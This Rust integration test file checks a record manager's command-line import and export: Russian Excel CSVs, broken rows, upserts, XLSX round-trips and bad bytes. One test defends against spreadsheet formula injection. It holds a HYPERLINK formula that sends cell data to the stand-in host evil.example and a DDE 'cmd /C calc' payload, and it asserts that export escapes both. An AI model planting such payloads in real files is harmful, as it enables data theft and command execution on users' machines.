//! Import and export from the command line, with files as people really have them.

#[path = "support/cli.rs"]
mod support;

use serde_json::Value as Json;
use std::path::PathBuf;
use support::{Env, PASS};

fn fixture(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures/import")
        .join(name)
        .display()
        .to_string()
}

/// Runs an import that must fail: every bad row is listed on stderr, then one line of error.
fn import_fails(env: &Env, args: &[&str]) -> String {
    let mut all = vec!["import"];
    all.extend_from_slice(args);
    let out = env.run_with(&all, PASS);
    assert!(!out.status.success(), "the import should fail");
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    let last = err.trim_end().lines().last().unwrap_or_default().to_string();
    assert!(last.starts_with("cardbase: ") && !err.contains("panicked"), "{err}");
    last
}

fn field<'a>(rec: &'a Json, key: &str) -> &'a Json {
    &rec["fields"][key]
}

#[test]
fn a_russian_excel_csv_imports_with_no_options() {
    let env = Env::init("personal");
    env.ok(&[
        "schema",
        "add-field",
        "contacts",
        "city",
        "--type",
        "text",
        "--label",
        "Город",
    ]);
    env.ok(&[
        "schema",
        "add-field",
        "contacts",
        "contract_sum",
        "--type",
        "money",
        "--label",
        "Сумма договора",
        "--currency",
        "RUB",
    ]);
    let out = env.ok(&["import", &fixture("excel-ru-1251.csv"), "--section", "contacts"]);
    assert!(out.contains("5 added"), "{out}");
    let recs = env.list_json(&["contacts", "--sort", "id"]);
    let first = &recs[0];
    assert_eq!(field(first, "last_name"), "Иванов");
    assert_eq!(field(first, "middle_name"), "Иванович");
    assert_eq!(field(first, "birthday"), "1978-03-15", "dd.mm.yyyy is read as a date");
    assert_eq!(
        field(first, "contract_sum")["amount"],
        1234.56,
        "1234,56 is read with a decimal comma"
    );
    assert_eq!(field(first, "city"), "Москва");
    assert_eq!(
        field(&recs[1], "notes"),
        "Звонить после 18:00; \"VIP\"",
        "quoted ; and doubled quotes"
    );
    assert_eq!(field(&recs[2], "first_name"), "Пётр");
}

#[test]
fn a_broken_file_imports_nothing_unless_bad_rows_are_skipped() {
    let env = Env::init("personal");
    env.ok(&["schema", "add-field", "contacts", "city", "--type", "text"]);
    let err = import_fails(&env, &[&fixture("broken-quoting.csv"), "--section", "contacts"]);
    assert!(
        err.contains("3 rows could not be imported, so nothing was saved"),
        "{err}"
    );
    assert!(
        env.ids(&["contacts"]).is_empty(),
        "all or nothing: the vault is unchanged"
    );

    let out = env.run(&[
        "import",
        &fixture("broken-quoting.csv"),
        "--section",
        "contacts",
        "--skip-bad-rows",
    ]);
    assert!(out.status.success());
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stdout.contains("4 added") && stdout.contains("3 skipped"), "{stdout}");
    for row in ["row 3", "row 5", "row 7"] {
        assert!(
            stderr.contains(&format!("broken-quoting.csv, {row}:")),
            "the report names {row}: {stderr}"
        );
    }
    assert_eq!(env.ids(&["contacts"]).len(), 4);
}

#[test]
fn a_value_not_of_its_type_is_kept_as_typed_and_a_missing_required_field_refuses_its_row() {
    let env = Env::init("client-base");
    let csv = env.dir.path().join("clients.csv");
    std::fs::write(
        &csv,
        "Name,City,Contract end,Debt\nAcme,Berlin,31.12.2026,\"1 200,50\"\nGlobex,Paris,not a date,10\n,Lyon,01.01.2027,5\nInitech,Austin,2027-02-01,7\n",
    )
    .unwrap();
    // The nameless row is structural for a section whose name is required: it alone refuses.
    let err = import_fails(&env, &[csv.to_str().unwrap(), "--section", "organizations"]);
    assert!(err.contains("1 row could not be imported"), "{err}");
    let out = env.run(&["import", csv.to_str().unwrap(), "--section", "organizations"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("clients.csv, row 4") && stderr.contains("\"name\" is required"),
        "{stderr}"
    );
    assert!(env.ids(&["organizations"]).is_empty());

    let out = env.run(&[
        "import",
        csv.to_str().unwrap(),
        "--section",
        "organizations",
        "--skip-bad-rows",
    ]);
    assert!(out.status.success());
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(
        stdout.contains("3 added") && stdout.contains("1 value kept as typed"),
        "{stdout}"
    );
    assert!(
        stderr.contains("clients.csv, row 3, column \"Contract end\": \"not a date\" kept as typed in contract_end"),
        "{stderr}"
    );
    let recs = env.list_json(&["organizations", "--sort", "name"]);
    assert_eq!(recs.len(), 3);
    assert_eq!(field(&recs[0], "debt")["amount"], 1200.5);
    assert_eq!(field(&recs[0], "contract_end"), "2026-12-31");
    let globex = recs[1]["id"].as_i64().unwrap().to_string();
    assert!(recs[1]["fields"].get("contract_end").is_none_or(|v| v.is_null()));
    let card = env.ok(&["get", &globex]);
    assert!(card.contains("Contract end (kept as typed): not a date"), "{card}");
    // Typing the date in properly lets the kept text go.
    env.ok(&["edit", &globex, "--set", "contract_end=2027-06-30"]);
    assert!(!env.ok(&["get", &globex]).contains("kept as typed"));
}

#[test]
fn reimporting_with_upsert_changes_and_duplicates_nothing() {
    let env = Env::init("personal");
    let out = env.ok(&["import", &fixture("google-contacts-utf8.csv"), "--section", "contacts"]);
    assert!(
        out.contains("4 added") && out.contains("linked records created"),
        "{out}"
    );
    let before = env.list_json(&["contacts", "--sort", "id"]);
    let again = env.ok(&[
        "import",
        &fixture("google-contacts-utf8.csv"),
        "--section",
        "contacts",
        "--upsert",
        "email",
    ]);
    assert!(again.contains("0 added, 0 updated, 4 unchanged"), "{again}");
    assert_eq!(env.list_json(&["contacts", "--sort", "id"]), before);
    // Organizations named in a column were created once and linked, not duplicated.
    let ada = before.iter().find(|r| field(r, "first_name") == "Ada").unwrap();
    let org = field(ada, "organization").as_i64().unwrap();
    assert!(env.ok(&["get", &org.to_string()]).contains("Analytical Engines Ltd"));
    assert_eq!(env.list_json(&["organizations"]).len(), 2);
}

#[test]
fn exports_write_every_format_and_xlsx_reads_back_with_types() {
    let env = Env::init("client-base");
    env.add(
        "organizations",
        &[
            "name=Acme <script>",
            "city=Berlin",
            "deal_amount=1500.50 EUR",
            "contract_end=2026-12-31",
        ],
    );
    env.add("organizations", &["name=Ромашка", "city=Москва", "deal_amount=20 RUB"]);
    let dir = env.dir.path();
    for (file, extra) in [
        ("orgs.xlsx", vec![]),
        ("orgs.csv", vec![]),
        ("orgs-ru.csv", vec!["--csv", "excel-ru"]),
        ("orgs.html", vec![]),
        ("orgs.txt", vec![]),
        ("orgs.jsonl", vec![]),
    ] {
        let out = dir.join(file);
        let mut args = vec![
            "export",
            "organizations",
            "--sort",
            "name",
            "--out",
            out.to_str().unwrap(),
        ];
        args.extend(extra);
        assert!(env.ok(&args).contains("Exported 2 records"), "{file}");
        assert!(std::fs::metadata(&out).unwrap().len() > 0);
    }
    let csv = std::fs::read(dir.join("orgs.csv")).unwrap();
    assert!(
        csv.starts_with(b"\xEF\xBB\xBF"),
        "UTF-8 CSV starts with a BOM for Excel"
    );
    let ru = std::fs::read(dir.join("orgs-ru.csv")).unwrap();
    let (text, _, bad) = encoding_rs::WINDOWS_1251.decode(&ru);
    assert!(
        !bad && text.contains("Ромашка;Lead;;Москва") && text.contains(";1500,50 EUR"),
        "{text}"
    );
    let html = std::fs::read_to_string(dir.join("orgs.html")).unwrap();
    assert!(
        html.contains("Acme &lt;script&gt;") && !html.contains("<script>"),
        "values are escaped"
    );

    // The XLSX reads back through the importer with the same values and types.
    let back = Env::init("client-base");
    back.ok(&[
        "import",
        dir.join("orgs.xlsx").to_str().unwrap(),
        "--section",
        "organizations",
    ]);
    let recs = back.list_json(&["organizations", "--sort", "name"]);
    assert_eq!(field(&recs[0], "name"), "Acme <script>");
    assert_eq!(field(&recs[0], "deal_amount")["amount"], 1500.5);
    assert_eq!(field(&recs[0], "contract_end"), "2026-12-31");
    assert_eq!(field(&recs[1], "city"), "Москва");

    let all = dir.join("all.xlsx");
    assert!(
        env.ok(&["export", "--all", "--out", all.to_str().unwrap()])
            .contains("every section")
    );
}

#[test]
fn a_large_csv_imports_with_progress_and_counts_right() {
    let env = Env::init("personal");
    let csv = env.dir.path().join("many.csv");
    let mut text = String::from("First name;Last name;E-mail;Phone\n");
    for i in 0..20_000 {
        text.push_str(&format!(
            "Имя{i};Family{i};user{i}@example.org;+1 555 {:04}\n",
            i % 10_000
        ));
    }
    std::fs::write(&csv, text).unwrap();
    let out = env.ok(&["import", csv.to_str().unwrap(), "--section", "contacts"]);
    assert!(out.contains("20000 added"), "{out}");
    let listed = env.ok(&["list", "contacts", "--limit", "1"]);
    assert!(listed.contains("1 of 20000 records"), "{listed}");
    assert_eq!(env.ids(&["contacts", "--search", "user19999@"]).len(), 1);
    // A large import leaves an automatic backup beside the vault.
    let backups = std::fs::read_dir(env.dir.path().join("backups")).unwrap().count();
    assert_eq!(backups, 1);
}

#[test]
fn re_importing_an_export_keeps_passwords_and_matches_any_shared_e_mail() {
    let env = Env::init("personal");
    env.add("links", &["title=Bank", "password=s3cret!"]);
    let out = env.dir.path().join("links.csv");
    env.ok(&["export", "links", "--out", out.to_str().unwrap()]);
    env.ok(&[
        "import",
        out.to_str().unwrap(),
        "--section",
        "links",
        "--upsert",
        "title",
    ]);
    let rec = env.ok(&["list", "links", "--format", "json", "--show-secrets"]);
    assert!(
        rec.contains("s3cret!"),
        "the password survives an export and re-import: {rec}"
    );

    // One shared address is enough for --upsert email, whatever its label or the others.
    env.add(
        "contacts",
        &["first_name=Ada", "emails=work: ada@x.org; home: ada@home.org"],
    );
    let csv = env.dir.path().join("ada.csv");
    std::fs::write(&csv, "First name,E-mail,Job title\nAda,ada@x.org,Countess\n").unwrap();
    let report = env.ok(&[
        "import",
        csv.to_str().unwrap(),
        "--section",
        "contacts",
        "--upsert",
        "email",
    ]);
    assert!(report.contains("0 added, 1 updated"), "{report}");
    assert_eq!(env.ids(&["contacts"]).len(), 1);
}

#[test]
fn a_skipped_row_leaves_no_organization_behind() {
    let env = Env::init("personal");
    // A unique field is strict: a repeated code refuses its row (after its company was seen).
    env.ok(&["schema", "add-field", "contacts", "code", "--type", "text", "--unique"]);
    let csv = env.dir.path().join("people.csv");
    std::fs::write(&csv, "First name,Company,code\nAda,Good Corp,A1\nBob,Ghost Corp,A1\n").unwrap();
    let out = env.ok(&[
        "import",
        csv.to_str().unwrap(),
        "--section",
        "contacts",
        "--skip-bad-rows",
    ]);
    assert!(
        out.contains("1 added") && out.contains("1 linked records created"),
        "{out}"
    );
    let orgs: Vec<String> = env
        .list_json(&["organizations"])
        .iter()
        .map(|r| r["fields"]["name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(orgs, ["Good Corp"], "the bad row's organization was not created");
}

/// The cells of a CSV export (its byte-order mark dropped), by row.
fn csv_rows(path: &std::path::Path) -> Vec<Vec<String>> {
    let text = std::fs::read_to_string(path).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

#[test]
fn csv_exports_mark_formulas_as_text_unless_raw_formulas_is_given() {
    let env = Env::init("personal");
    env.add(
        "notes",
        &[
            "title==HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
            "text=@SUM(A1:A9)",
        ],
    );
    env.add("notes", &["title=-2+3+cmd|' /C calc'!A0", "text=+44 20 7946 0018"]);
    env.add("events", &["title=+Call", "duration_minutes=-5"]);
    let safe = env.dir.path().join("notes.csv");
    env.ok(&[
        "export",
        "notes",
        "--columns",
        "title,text",
        "--out",
        safe.to_str().unwrap(),
    ]);
    let mut rows = csv_rows(&safe).split_off(1);
    rows.sort();
    assert_eq!(
        rows,
        [
            ["'-2+3+cmd|' /C calc'!A0", "+44 20 7946 0018"],
            ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "'@SUM(A1:A9)"],
        ],
        "text a spreadsheet would run starts with a ', a phone number is left as it is"
    );
    let events = env.dir.path().join("events.csv");
    env.ok(&[
        "export",
        "events",
        "--columns",
        "title,duration_minutes",
        "--out",
        events.to_str().unwrap(),
    ]);
    assert_eq!(
        csv_rows(&events)[1],
        ["'+Call", "-5"],
        "a negative number is a number, not a formula"
    );

    let raw = env.dir.path().join("raw.csv");
    env.ok(&[
        "export",
        "notes",
        "--columns",
        "title,text",
        "--raw-formulas",
        "--out",
        raw.to_str().unwrap(),
    ]);
    let mut rows = csv_rows(&raw).split_off(1);
    rows.sort();
    assert_eq!(
        rows[1],
        ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "@SUM(A1:A9)"]
    );
}

#[test]
fn bytes_that_are_not_utf8_are_named_by_file_and_row_in_the_import_report() {
    let env = Env::init("personal");
    let csv = env.dir.path().join("people.csv");
    std::fs::write(
        &csv,
        b"First name,Last name\nAda,Lovelace\nJ\xffrg,M\xc3\n\xe2\x82Bob,Smith\n",
    )
    .unwrap();
    let out = env.run(&[
        "import",
        csv.to_str().unwrap(),
        "--section",
        "contacts",
        "--encoding",
        "utf-8",
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    let warnings: Vec<&str> = err.lines().filter(|l| l.starts_with("warning: ")).collect();
    assert_eq!(warnings.len(), 2, "one warning per row with bad bytes: {err}");
    assert!(
        warnings[0].contains("people.csv, row 3") && warnings[0].contains("U+FFFD"),
        "{err}"
    );
    assert!(warnings[1].contains("people.csv, row 4"), "{err}");
    let names: Vec<String> = env
        .list_json(&["contacts"])
        .iter()
        .map(|r| field(r, "first_name").as_str().unwrap().to_string())
        .collect();
    assert!(
        names.contains(&"J\u{FFFD}rg".to_string()),
        "the rows are imported all the same: {names:?}"
    );

    std::fs::write(&csv, "First name\nZoë \u{FFFD} as typed\n").unwrap();
    let clean = env.run(&["import", csv.to_str().unwrap(), "--section", "contacts"]);
    assert!(
        !String::from_utf8_lossy(&clean.stderr).contains("warning"),
        "a U+FFFD that is in the file is no warning"
    );
}
